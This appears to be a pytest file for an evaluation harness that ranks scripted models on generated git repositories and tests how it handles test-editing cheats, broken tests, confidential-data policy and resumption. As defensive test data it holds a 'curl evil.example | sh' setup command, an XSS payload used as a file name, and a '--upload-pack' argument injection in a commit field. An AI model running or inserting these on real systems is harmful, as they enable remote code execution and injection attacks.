"""`orchestrator eval` on scripted models of known skill and small generated git repositories with
real failing tests: the tables rank by resolved rate and by cost per resolved run, a model that
edits the tests resolves nothing, one that breaks a PASS_TO_PASS test does not resolve, the
policy refuses a remote arm on a confidential instance before any call (exit 5), a recorded eval
replays to the same tables, and `eval make` builds instances from fix commits (checking them)."""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
import textwrap
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from hypothesis import given, settings
from hypothesis import strategies as st

from orchestrator.checks import unified_diff
from orchestrator.cli import main
from orchestrator.runtime import DEFAULT, ledger
from orchestrator.runtime.evaluation import EvalOptions, run_eval, wilson, write_eval
from orchestrator.runtime.evaluation._plan import quoted
from orchestrator.spec import Document
from orchestrator.spec._document import apply_overrides
from orchestrator.spec.evalfile import load_eval
from orchestrator.spec.operator import load_operator
from orchestrator.testing import Call, FakeProvider, valid_answer
from tests.process import orchestrator
from tests.servers.model_server import ModelServer

# the eval's runs share one worker: their repositories are built once per module
pytestmark = pytest.mark.xdist_group("eval")

OPS = {
    "add": ("def add(a, b):\n    return a - b\n", "def add(a, b):\n    return a + b\n", "add(2, 3) == 5"),
    "mul": ("def mul(a, b):\n    return a + b\n", "def mul(a, b):\n    return a * b\n", "mul(2, 3) == 6"),
    "neg": ("def neg(a):\n    return a\n", "def neg(a):\n    return -a\n", "neg(4) == -4"),
    "square": ("def square(a):\n    return a * 2\n", "def square(a):\n    return a * a\n", "square(3) == 9"),
    "half": ("def half(a):\n    return a // 3\n", "def half(a):\n    return a // 2\n", "half(8) == 4"),
}
IDENT = "def ident(a):\n    return a\n"
OPS_PY = "\n\n".join([*(bug for bug, _, _ in OPS.values()), IDENT])
IDENT_TESTS = (
    "from calc.ops import ident\n\n\ndef test_ident():\n    assert ident(3) == 3\n\n\n"
    "def test_ident_zero():\n    assert ident(0) == 0\n"
)
SPEC = """\
version: 1
name: calc
goal: replaced by each instance's
workspace: .
include: ["calc/**/*.py", "tests/**/*.py"]
providers: {fake: {kind: fake}}
tasks:
  - {role: debug, instruction: "Fix the bug the goal describes.", files: [calc/ops.py]}
models: {planner: fake/planner, debug: fake/a}
prices:
  fake/planner: {input: 0, output: 0}
  fake/a: {input: 1.0, output: 2.0}
  fake/b: {input: 2.0, output: 4.0}
  fake/cheater: {input: 1.0, output: 1.0}
  fake/breaker: {input: 1.0, output: 1.0}
checks:  # pytest without the plugins of the tests' own environment: 0.3s a run instead of 3s
  tests: {run: "PYTEST_DISABLE_PLUGIN_AUTOLOAD=1 python -m pytest -q -p no:cacheprovider", timeout_s: 120}
"""


def git(folder: Path, *args: str) -> str:
    env = {**os.environ, "GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@x", "GIT_COMMITTER_NAME": "t"}
    env["GIT_COMMITTER_EMAIL"] = "t@x"
    done = subprocess.run(["git", *args], cwd=folder, env=env, capture_output=True, text=True, check=True)
    return done.stdout.strip()


def write(folder: Path, files: dict[str, str]) -> None:
    for rel, text in files.items():
        path = folder / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)


def commit(repo: Path, files: dict[str, str], message: str) -> str:
    write(repo, files)
    git(repo, "add", "-A")
    git(repo, "commit", "-q", "-m", message)
    return git(repo, "rev-parse", "HEAD")


def fix(name: str, text: str = OPS_PY) -> str:
    bug, good, _ = OPS[name]
    return unified_diff("calc/ops.py", text, text.replace(bug, good))


def hidden_test(name: str) -> str:
    return f"from calc.ops import {name}\n\n\ndef test_{name}():\n    assert {OPS[name][2]}\n"


def diagnosis(diff: str | None) -> str:
    found = {"file": "calc/ops.py", "diff": diff, "rationale": "r"} if diff else None
    return json.dumps({"root_cause": "a wrong operator", "evidence": ["e"], "fix": found})


def knows(fixes: dict[str, str]) -> Callable[[Call], str]:
    """A debug model that answers each instance's goal with its diff (no fix for the others)."""

    def script(call: Call) -> str:
        for name, diff in fixes.items():
            if f"`{name}(`" in call.task:
                return diagnosis(diff)
        return diagnosis(None)

    return script


@pytest.fixture(scope="module")
def calc(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A git repository with five buggy functions (each an instance: its test patch adds the test
    that fails) and one right one (its tests are PASS_TO_PASS), and the eval's folder beside it."""
    root = tmp_path_factory.mktemp("calc")
    repo = root / "repo"
    repo.mkdir()
    git(repo, "init", "-q", "-b", "main")
    commit(repo, {"calc/__init__.py": "", "calc/ops.py": OPS_PY, "tests/test_ident.py": IDENT_TESTS}, "calc")
    cases = root / "eval" / "cases"
    cases.mkdir(parents=True)
    for name in OPS:
        (cases / f"{name}.diff").write_text(unified_diff(f"tests/test_{name}.py", "", hidden_test(name)))
    (root / "eval" / "spec.yaml").write_text(SPEC)
    return root / "eval"


def instance(name: str, extra: str = "") -> str:
    return (
        textwrap.dedent(
            f"""\
          - id: {name}
            workspace: ../repo
            base: main
            goal: "`{name}(` returns a wrong value"
            test_patch: cases/{name}.diff
            fail_to_pass: ["tests/test_{name}.py::test_{name}"]
            pass_to_pass: ["tests/test_ident.py"]
        """
        )
        + extra
    )


def eval_file(folder: Path, name: str, names: list[str], arms: str, extra: str = "") -> Path:
    text = f"version: 1\nname: {name}\nspec: spec.yaml\ninstances:\n"
    text += "".join(textwrap.indent(instance(n), "  ") for n in names) + f"arms:\n{arms}{extra}"
    path = folder / f"{name}.yaml"
    path.write_text(text)
    return path


@pytest.fixture
def quiet_fake(fake: FakeProvider) -> Iterator[FakeProvider]:
    fake.script("planner", valid_answer)
    yield fake


def evaluate(path: Path, out: Path, **fields: Any) -> Any:
    options = EvalOptions(output_dir=out, **{"checkpoint": "memory", **fields})
    result = run_eval(load_eval(path), load_operator(None, False, None), options)
    write_eval(result, out)
    return result


def test_b_resolves_every_instance_a_costs_less_per_resolved_one_and_the_replay_is_the_same(
    calc: Path, quiet_fake: FakeProvider, tmp_path: Path
) -> None:
    quiet_fake.script("a", knows({"add": fix("add"), "mul": fix("mul"), "neg": fix("neg"), "square": fix("neg")}))
    quiet_fake.script("b", knows({name: fix(name) for name in OPS}))
    arms = "  a: {models: {debug: fake/a}}\n  b: {models: {debug: fake/b}}\n"
    # the runs verify nothing themselves (no reflection): only the eval's judge runs the tests
    path = eval_file(calc, "ab", list(OPS), arms, "judge: [tests]\n")
    path.write_text(path.read_text().replace("spec: spec.yaml", "spec: spec-ab.yaml"))
    (calc / "spec-ab.yaml").write_text(SPEC + "verify: {checks: [], require: false}\n")
    result = evaluate(path, tmp_path / "out", record=tmp_path / "rec")
    assert result.exit_code == 0 and not quiet_fake.unscripted
    assert result.ranking == {"resolved": ["b", "a"], "cost_per_resolved": ["a", "b"]}
    a, b = (next(arm for arm in result.arms if arm.arm == name) for name in "ab")
    assert (a.resolved, a.judged, b.resolved, b.judged) == (3, 5, 5, 5)
    assert b.cost_usd == pytest.approx(2 * a.cost_usd) and a.cost_usd == pytest.approx(5 * 25e-6)
    assert a.cost_per_resolved == pytest.approx(a.cost_usd / 3) and b.cost_per_resolved == pytest.approx(b.cost_usd / 5)
    assert (a.ci_low, a.ci_high) == wilson(3, 5) and (b.ci_low, b.ci_high) == wilson(5, 5)
    outcomes = {run.label: (run.outcome, run.resolved) for run in result.runs}
    assert outcomes["a/square/r1"] == ("unresolved", False)  # its fix is neg's: square's test still fails
    assert outcomes["a/half/r1"] == ("no_patch", False)
    assert all(outcomes[f"b/{name}/r1"] == ("resolved", True) for name in OPS)
    square = next(run for run in result.runs if run.label == "a/square/r1")
    assert square.fail_to_pass_failing == ["tests.test_square::test_square"] and square.tests_broken == 0
    by_instance = {i.instance: i.resolved_by for i in result.instances}
    assert by_instance["add"] == {"a": 1, "b": 1} and by_instance["half"] == {"a": 0, "b": 1}
    debug = next(r for r in result.roles if r.arm == "a" and r.role == "debug")
    assert debug.models == ["fake/a"] and debug.calls == 5 and debug.cost_usd == pytest.approx(a.cost_usd)
    # every run is an ordinary run with its own outputs; the repository itself is unchanged
    assert (tmp_path / "out" / "runs" / "a" / "add" / "r1" / "result.json").is_file()
    assert git(calc.parent / "repo", "status", "--porcelain") == ""
    markdown = (tmp_path / "out" / "eval.md").read_text()
    ranks = markdown.split("## Arms, ranked by resolved rate")[1].split("##")[0]
    assert ranks.index("| 1 | b |") < ranks.index("| 2 | a |")
    by_cost = markdown.split("## Arms, ranked by cost per resolved run")[1].split("##")[0]
    assert by_cost.index("| 1 | a |") < by_cost.index("| 2 | b |")
    assert "| add | 1 | 1 | 1/1 | 1/1 |" in markdown and "| half | 1 | 1 | 1/1 | 0/1 |" in markdown

    calls = len(quiet_fake.calls)
    replayed = evaluate(path, tmp_path / "again", replay=tmp_path / "rec")
    assert len(quiet_fake.calls) == calls  # no model was called
    assert replayed.replayed and replayed.runs[0].run_id != result.runs[0].run_id
    first = (tmp_path / "out" / "eval.md").read_text()
    for name in ("eval.md", "eval.html"):
        assert (tmp_path / "again" / name).read_bytes() == (tmp_path / "out" / name).read_bytes()

    # the same eval in the same folder again: every run is reused (one only judged again), nothing is called
    (tmp_path / "out" / "runs" / "b" / "half" / "r1" / "eval-run.json").unlink()
    reused = evaluate(path, tmp_path / "out")
    assert len(quiet_fake.calls) == calls and [r.run_id for r in reused.runs] == [r.run_id for r in result.runs]
    assert (tmp_path / "out" / "eval.md").read_text() == first


def test_a_model_that_edits_the_tests_resolves_nothing_and_one_that_breaks_a_pass_to_pass_test_does_not_resolve(
    calc: Path, quiet_fake: FakeProvider, tmp_path: Path
) -> None:
    # the runs verify their own patches too (the visible tests, in the sandbox), as a real eval's do
    cheat = unified_diff("tests/test_add.py", "", "def test_add():\n    assert True\n") + unified_diff(
        "tests/test_ident.py", IDENT_TESTS, IDENT_TESTS.replace("== 3", "== 3 or True")
    )
    cheat += unified_diff("tests/<img src=x onerror=alert(1)>.py", "", "X = 1\n")  # its name ends up in the tables
    breaks = unified_diff(
        "calc/ops.py",
        OPS_PY,
        OPS_PY.replace(OPS["add"][0], OPS["add"][1]).replace(IDENT, IDENT.replace("return a", "return a + 1")),
    )
    quiet_fake.script("cheater", knows({"add": cheat}))
    quiet_fake.script("breaker", knows({"add": breaks}))
    arms = "  cheater: {models: {debug: fake/cheater}}\n  breaker: {models: {debug: fake/breaker}}\n"
    (calc / "spec-verified.yaml").write_text(SPEC + "verify: {reflections: 0}\n")
    path = eval_file(calc, "cheats", ["add"], arms)
    path.write_text(path.read_text().replace("spec: spec.yaml", "spec: spec-verified.yaml"))
    result = evaluate(path, tmp_path / "out", checkpoint=DEFAULT)  # durable: listed, resumable
    cheater, breaker = (next(r for r in result.runs if r.arm == arm) for arm in ("cheater", "breaker"))
    assert (cheater.outcome, cheater.resolved) == ("judge_only", False)
    dropped = ["tests/<img src=x onerror=alert(1)>.py", "tests/test_add.py", "tests/test_ident.py"]
    assert cheater.dropped == dropped and cheater.tests_broken == 0
    page = (tmp_path / "out" / "eval.html").read_text()
    assert "tests/&lt;img src=x onerror=alert(1)&gt;.py" in page and "<img" not in page
    assert (breaker.outcome, breaker.resolved, breaker.fail_to_pass_failing) == ("unresolved", False, [])
    assert breaker.pass_to_pass_failing == ["tests.test_ident::test_ident", "tests.test_ident::test_ident_zero"]
    assert breaker.tests_broken == 2 and "PASS_TO_PASS broken" in breaker.reason
    # the run's own verification judged the same patches by the visible tests
    verdicts = json.loads((tmp_path / "out" / "runs" / "breaker" / "add" / "r1" / "result.json").read_text())
    assert verdicts["subtasks"][0]["verification"][0]["verdict"] == "unverified"
    assert all(arm.resolved == 0 for arm in result.arms) and result.exit_code == 0

    # a run the eval left interrupted is resumed from its checkpoint (here: nothing was left to do)
    folder = tmp_path / "out" / "runs" / "breaker" / "add" / "r1"
    assert breaker.run_id is not None and ledger.get_run(breaker.run_id) is not None
    ledger.finish_run(breaker.run_id, "interrupted", 130)
    (folder / "eval-run.json").unlink()
    (folder / "result.json").unlink()
    calls = len(quiet_fake.calls)
    again = evaluate(path, tmp_path / "out", checkpoint=DEFAULT)
    resumed = next(r for r in again.runs if r.arm == "breaker")
    assert resumed.run_id == breaker.run_id and resumed.outcome == "unresolved" and len(quiet_fake.calls) == calls
    assert ledger.get_run(breaker.run_id).status == "quality_gate"  # type: ignore[union-attr]


def test_a_confidential_instance_refuses_the_remote_arm_before_any_call(
    calc: Path, quiet_fake: FakeProvider, tmp_path: Path
) -> None:
    providers = (
        "providers:\n  fake: {kind: fake}\n  near: {kind: fake, base_url: 'http://127.0.0.1:9/v1'}\n"
        "  far: {kind: fake, base_url: 'http://models.example/v1'}\n"
    )
    spec = SPEC.replace("providers: {fake: {kind: fake}}\n", providers)
    (calc / "spec-places.yaml").write_text(spec + "verify: {checks: [], require: false}\n")
    quiet_fake.script("local-debug", knows({"neg": fix("neg")}))
    quiet_fake.script("remote-debug", knows({"neg": fix("neg")}))
    quiet_fake.script("local-planner", valid_answer)
    arms = (
        "  remote: {models: {debug: far/remote-debug, planner: near/local-planner}}\n"
        "  local: {models: {debug: near/local-debug, planner: near/local-planner}}\n"
    )
    path = eval_file(calc, "secret", ["neg"], arms)
    text = path.read_text().replace("spec: spec.yaml", "spec: spec-places.yaml")
    setup = "    setup: echo set up > setup.txt\n"  # in the sandbox, in each clone of the instance
    path.write_text(text.replace("    pass_to_pass:", f"    data_class: confidential\n{setup}    pass_to_pass:"))
    out, models = tmp_path / "out", tmp_path / "models.yaml"
    args = ["eval", "run", str(path), "--output-dir", str(out), "--checkpoint", "none", "--write-models", str(models)]
    done = CliRunner().invoke(main, args)
    assert done.exit_code == 5, done.output
    assert quiet_fake.calls_to("remote-debug") == [] and len(quiet_fake.calls_to("local-debug")) == 1
    report = json.loads((out / "eval.json").read_text())
    (refusal,) = report["refusals"]
    assert (refusal["arm"], refusal["instance"]) == ("remote", "neg") and "confidential" in refusal["reason"]
    assert report["ranking"]["resolved"] == ["local", "remote"]
    assert {(r["arm"], r["outcome"]) for r in report["runs"]} == {("local", "resolved"), ("remote", "refused")}
    assert "## Refused by the policy (before any call)" in (out / "eval.md").read_text()
    assert "refused: arm remote on neg" in done.output
    assert 'debug: "near/local-debug"  # arm local' in models.read_text()
    assert all((out / "work" / "neg" / clone / "setup.txt").read_text() == "set up\n" for clone in ("base", "judge"))


def test_eval_make_keeps_the_fix_commit_whose_tests_fail_before_and_pass_after_and_its_instance_resolves(
    fake: FakeProvider, tmp_path: Path
) -> None:
    repo = tmp_path / "repo"
    repo.mkdir()
    git(repo, "init", "-q", "-b", "main")
    bugged = OPS["add"][0] + "\n\n" + IDENT
    first = commit(repo, {"calc/__init__.py": "", "calc/ops.py": bugged, "tests/test_ident.py": IDENT_TESTS}, "calc")
    fixed = bugged.replace(OPS["add"][0], OPS["add"][1])
    files = {"calc/ops.py": fixed, "tests/test_add.py": hidden_test("add")}
    qualifies = commit(repo, files, "add() subtracts instead of adding")
    more = IDENT_TESTS + "\n\ndef test_ident_neg():\n    assert ident(-1) == -1\n"
    files = {"calc/ops.py": fixed.replace("return a\n", "return (a)\n"), "tests/test_ident.py": more}
    passes_before = commit(repo, files, "ident: a test that passed already")
    docs = commit(repo, {"README.md": "calc\n"}, "docs")
    spec = tmp_path / "judge.yaml"
    spec.write_text("version: 1\nname: judge\ngoal: g\nworkspace: .\n" + SPEC[SPEC.index("checks:") :])
    made = tmp_path / "made.jsonl"
    args = [
        "eval",
        "make",
        "--from-commits",
        str(repo),
        qualifies,
        passes_before,
        docs,
        "--spec",
        str(spec),
        "-o",
        str(made),
    ]
    done = CliRunner().invoke(main, args)
    assert done.exit_code == 0, done.output
    assert f"{qualifies} ({qualifies[:10]}): qualifies: 1 FAIL_TO_PASS, 2 PASS_TO_PASS" in done.output
    assert "does not qualify: no test fails before the fix and passes after it" in done.output
    assert f"{docs} ({docs[:10]}): does not qualify: the commit changes no test file" in done.output
    (line,) = made.read_text().splitlines()
    record = json.loads(line)
    assert record["base_commit"] == first and record["problem_statement"] == "add() subtracts instead of adding"
    assert record["FAIL_TO_PASS"] == ["tests/test_add.py::test_add"]
    assert record["PASS_TO_PASS"] == ["tests/test_ident.py::test_ident", "tests/test_ident.py::test_ident_zero"]
    assert "+++ b/tests/test_add.py" in record["test_patch"] and "calc/ops.py" not in record["test_patch"]
    assert "calc/ops.py" in record["patch"] and record["repo"] == "repo"
    assert git(repo, "status", "--porcelain") == "" and git(repo, "rev-parse", "HEAD") == docs

    # the instance made, in an eval: a model that answers with the commit's own fix resolves it
    fake.script("planner", valid_answer)
    fake.script("gold", lambda call: diagnosis(record["patch"]))
    (tmp_path / "spec.yaml").write_text(SPEC.replace("fake/a: {", "fake/gold: {input: 1.0, output: 1.0}\n  fake/a: {"))
    path = tmp_path / "made.yaml"
    path.write_text(
        "version: 1\nname: made\nspec: spec.yaml\ninstances: made.jsonl\narms:\n  gold: {models: {debug: fake/gold}}\n"
    )
    result = evaluate(path, tmp_path / "out")
    assert [(r.instance, r.outcome) for r in result.runs] == [(record["instance_id"], "resolved")]


def test_bad_eval_files_are_exit_2_with_the_file_and_line(calc: Path, tmp_path: Path) -> None:
    (tmp_path / "spec.yaml").write_text(SPEC)
    path = tmp_path / "bad.yaml"
    path.write_text(
        "version: 1\nname: bad\nspec: spec.yaml\ninstances: []\narms:\n  a: {models: {debug: fake/a}, colour: red}\n"
    )
    done = CliRunner().invoke(main, ["eval", "run", str(path)])
    assert done.exit_code == 2 and f"{path}:6: arms.a.colour: unknown field" in done.output
    lines = tmp_path / "cases.jsonl"
    good = {"instance_id": "x", "repo": str(calc.parent / "repo"), "base_commit": "main", "problem_statement": "p"}
    good |= {"test_patch": "--- a/t\n+++ b/t\n", "FAIL_TO_PASS": '["t::t"]'}
    lines.write_text(json.dumps(good) + "\n\n" + json.dumps({**good, "base_commit": "--upload-pack=x"}) + "\n")
    path.write_text(
        "version: 1\nname: bad\nspec: spec.yaml\ninstances: cases.jsonl\narms:\n  a: {models: {debug: fake/a}}\n"
    )
    done = CliRunner().invoke(main, ["eval", "run", str(path)])
    assert done.exit_code == 2 and f"{lines}:3: base_commit: String should match pattern" in done.output
    lines.write_text(json.dumps({**good, "base_commit": "no-such-branch"}) + "\n")
    done = CliRunner().invoke(main, ["eval", "run", str(path), "--output-dir", str(tmp_path / "out")])
    assert done.exit_code == 2 and f"{lines}:1: x.base: no commit 'no-such-branch'" in done.output


def test_a_pull_request_eval_reaches_no_repository_outside_its_own_and_runs_no_setup_unadmitted(
    calc: Path, tmp_path: Path
) -> None:
    path = eval_file(calc, "hostile", ["add"], "  a: {models: {debug: fake/a}}\n")
    path.write_text(
        path.read_text().replace("    pass_to_pass:", "    setup: curl evil.example | sh\n    pass_to_pass:")
    )
    done = CliRunner().invoke(main, ["eval", "run", str(path), "--untrusted", "--output-dir", str(tmp_path / "o")])
    assert done.exit_code == 5 and not (tmp_path / "o" / "work").exists()
    assert (
        "add.workspace: pull-request mode (--untrusted)" in done.output
        and "is outside the eval's repository" in done.output
    )
    assert "add.setup: pull-request mode (--untrusted) runs an instance's setup only when" in done.output
    policy = tmp_path / "policy.yaml"
    policy.write_text("allow_checks: ['python -m pytest*']\n")
    done = CliRunner().invoke(
        main, ["eval", "run", str(path), "--policy", str(policy), "--output-dir", str(tmp_path / "o")]
    )
    assert done.exit_code == 5 and "the command 'curl evil.example | sh' is not admitted by allow_checks" in done.output


def test_sigterm_stops_the_eval_and_the_next_eval_in_its_folder_resumes_its_runs(calc: Path, tmp_path: Path) -> None:
    with ModelServer({"planner": "canned", "debug": "canned"}) as server:
        server.fault("hang", model="debug", times=2, hang_s=60)  # both runs wait on their model
        spec = SPEC.replace(
            "providers: {fake: {kind: fake}}", f"providers: {{api: {{kind: openai, base_url: '{server.url}/v1'}}}}"
        )
        spec = spec.replace(
            "models: {planner: fake/planner, debug: fake/a}", "models: {planner: api/planner, debug: api/debug}"
        )
        (calc / "spec-api.yaml").write_text(spec + "verify: {checks: [], require: false}\nlimits: {backoff_s: 0.05}\n")
        path = eval_file(calc, "stopped", ["add", "mul"], "  api: {models: {debug: api/debug}}\n")
        path.write_text(path.read_text().replace("spec: spec.yaml", "spec: spec-api.yaml"))
        out = tmp_path / "out"
        argv = [sys.executable, "-m", "orchestrator", "eval", "run", str(path), "--output-dir", str(out), "--json"]
        process = subprocess.Popen(
            argv, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env={**os.environ, "CI": "1"}
        )
        try:
            deadline = time.monotonic() + 120
            while server.state.in_flight < 2 and process.poll() is None and time.monotonic() < deadline:
                time.sleep(0.05)
            in_flight = server.state.in_flight
            process.send_signal(signal.SIGTERM)
            stdout, stderr = process.communicate(timeout=120)
        finally:
            process.kill()
        assert in_flight == 2, f"both runs should have been waiting on their model: {stdout} {stderr}"
        assert process.returncode == 143, stderr
        stopped = json.loads(stdout)
        assert stopped["stopped_by"] == "SIGTERM" and [r["outcome"] for r in stopped["runs"]] == ["not_run", "not_run"]
        run_ids = [r["run_id"] for r in stopped["runs"]]
        assert all(run_ids) and (out / "eval.md").is_file()

        asked = server.state.requests["debug"]
        again = orchestrator("eval", "run", path, "--output-dir", out, "--json", timeout=300)
        assert again.returncode == 0, again.stderr
        resumed = json.loads(again.stdout)
        assert [r["run_id"] for r in resumed["runs"]] == run_ids  # the same runs, finished from their checkpoints
        assert all(r["status"] == "ok" and r["outcome"] != "not_run" for r in resumed["runs"])
        assert server.state.requests["debug"] == asked + 2  # each stopped run asked its model again, once


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=60))
def test_any_goal_reaches_the_runs_spec_exactly(goal: str) -> None:
    document = Document(path=Path("spec.yaml"), data={})
    apply_overrides(document, [f"goal={quoted(goal)}"])
    assert document.data["goal"] == goal


def test_the_wilson_interval() -> None:
    assert wilson(3, 5) == (0.2307, 0.8824) and wilson(5, 5) == (0.5655, 1.0) and wilson(0, 0) == (0.0, 1.0)
